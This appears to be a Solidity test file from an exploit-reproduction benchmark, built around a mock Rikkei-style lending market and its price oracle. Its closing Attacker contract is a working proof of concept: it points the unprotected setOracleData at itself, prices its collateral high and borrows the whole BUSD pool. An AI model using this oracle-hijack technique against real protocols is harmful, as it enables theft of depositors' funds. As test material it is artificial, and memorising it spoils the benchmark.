// SPDX-License-Identifier: BSD-3-Clause
pragma solidity 0.6.12;

import "./SimplePriceOracle.sol";

// assay-canary-11cb16b2-01e2-4001-8149-807bde295ecf

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is EIP20Interface {
    address private minter = msg.sender;
    bool public silent;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function quieten() external {
        require(msg.sender == minter, "minter only");
        silent = true;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        if (silent) return false;
        require(balanceOf[msg.sender] >= amount, "balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        if (silent) return false;
        require(balanceOf[from] >= amount && allowance[from][msg.sender] >= amount, "allowance");
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Feed is AggregatorInterface {
    address private reporter = msg.sender;
    int256 private answer;
    uint256 private updatedAt;

    constructor(int256 answer_) public {
        answer = answer_;
        updatedAt = block.timestamp;
    }

    function report(int256 next) external {
        require(msg.sender == reporter, "reporter only");
        answer = next;
        updatedAt = block.timestamp;
    }

    function latestRoundData() external view override returns (int256, uint256) {
        return (answer, updatedAt);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    Token internal busd;
    Token internal rifi;
    Feed internal busdFeed;
    Feed internal rifiFeed;
    SimplePriceOracle internal oracle;
    RikkeiMarket internal market;
    Attacker internal thief;

    function setUp() public {
        vm.warp(1650000000);
        busd = new Token();
        rifi = new Token();
        busdFeed = new Feed(1e8);
        rifiFeed = new Feed(2e6);
        oracle = new SimplePriceOracle();
        market = new RikkeiMarket(oracle);
        oracle.setOracleData(address(busd), busdFeed);
        oracle.setOracleData(address(rifi), rifiFeed);
        market.supportMarket(address(busd));
        market.supportMarket(address(rifi));
        put(busd, ANA, 1_200_000e18);
        put(rifi, BEN, 900_000e18);
        thief = new Attacker(market, oracle, busd, rifi);
        rifi.mint(address(thief), 100e18);
    }

    function put(Token token, address who, uint256 amount) internal {
        token.mint(who, amount);
        vm.startPrank(who);
        token.approve(address(market), uint256(-1));
        market.mint(address(token), amount);
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.startPrank(BEN);
        market.borrow(address(busd), 13_500e18);
        require(busd.balanceOf(BEN) == 13_500e18, "lent");
        (uint256 carries, uint256 owes) = market.getAccountLiquidity(BEN);
        require(carries == 13_500e18 && owes == carries, "as much as goes");
        busd.approve(address(market), uint256(-1));
        market.repayBorrow(address(busd), 13_500e18);
        market.redeem(address(rifi), 900_000e18);
        require(rifi.balanceOf(BEN) == 900_000e18, "back");
        vm.stopPrank();
        oracle.setPendingAdmin(ANA);
        vm.prank(ANA);
        oracle.acceptAdmin();
        market.setPendingAdmin(ANA);
        vm.prank(ANA);
        market.acceptAdmin();
        require(oracle.admin() == ANA && market.admin() == ANA && market.pendingAdmin() == address(0), "admin");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("only the admin can name a pending admin");
        oracle.setPendingAdmin(ANA);
        vm.expectRevert("only the pending admin can accept");
        oracle.acceptAdmin();
        vm.expectRevert("only the admin can name a pending admin");
        market.setPendingAdmin(ANA);
        vm.expectRevert("only the pending admin can accept");
        market.acceptAdmin();
        vm.expectRevert("only the admin can list a token");
        market.supportMarket(ANA);
        vm.stopPrank();
        vm.expectRevert("the token is listed already");
        market.supportMarket(address(busd));
    }

    function test_RefusesPrices() public {
        vm.startPrank(BEN);
        vm.expectRevert("the collateral does not carry the borrows");
        market.borrow(address(busd), 13_500e18 + 1);
        market.borrow(address(busd), 13_500e18);
        vm.expectRevert("the collateral does not carry the borrows");
        market.redeem(address(rifi), 1e18);
        vm.warp(1650000000 + 1 days + 1);
        vm.expectRevert("the price is too old");
        market.redeem(address(rifi), 0);
        vm.stopPrank();
        rifiFeed.report(0);
        busdFeed.report(1e8);
        vm.expectRevert("the feed has no price");
        oracle.getUnderlyingPrice(address(rifi));
    }

    function test_RefusesAmounts() public {
        vm.startPrank(BEN);
        vm.expectRevert("the token is not listed");
        market.mint(ANA, 0);
        vm.expectRevert("the token is not listed");
        market.borrow(ANA, 0);
        vm.expectRevert("more than was supplied");
        market.redeem(address(busd), 1);
        vm.expectRevert("more than is owed");
        market.repayBorrow(address(busd), 1);
        vm.stopPrank();
        rifi.quieten();
        vm.startPrank(BEN);
        vm.expectRevert("the token did not come in");
        market.mint(address(rifi), 1);
        vm.expectRevert("the token did not go out");
        market.redeem(address(rifi), 1);
        vm.stopPrank();
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        exploit();
        require(busd.balanceOf(address(thief)) >= 1_100_000e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(busd);
    }

    function target() public view returns (address) {
        return address(oracle);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Prices its own collateral.
contract Attacker is AggregatorInterface {
    RikkeiMarket internal market;
    SimplePriceOracle internal oracle;
    Token internal busd;
    Token internal rifi;

    constructor(RikkeiMarket market_, SimplePriceOracle oracle_, Token busd_, Token rifi_) public {
        market = market_;
        oracle = oracle_;
        busd = busd_;
        rifi = rifi_;
    }

    function latestRoundData() external view override returns (int256, uint256) {
        return (1e18, block.timestamp);
    }

    function run() external {
        rifi.approve(address(market), uint256(-1));
        market.mint(address(rifi), 100e18);
        oracle.setOracleData(address(rifi), this);
        market.borrow(address(busd), busd.balanceOf(address(market)));
    }
}
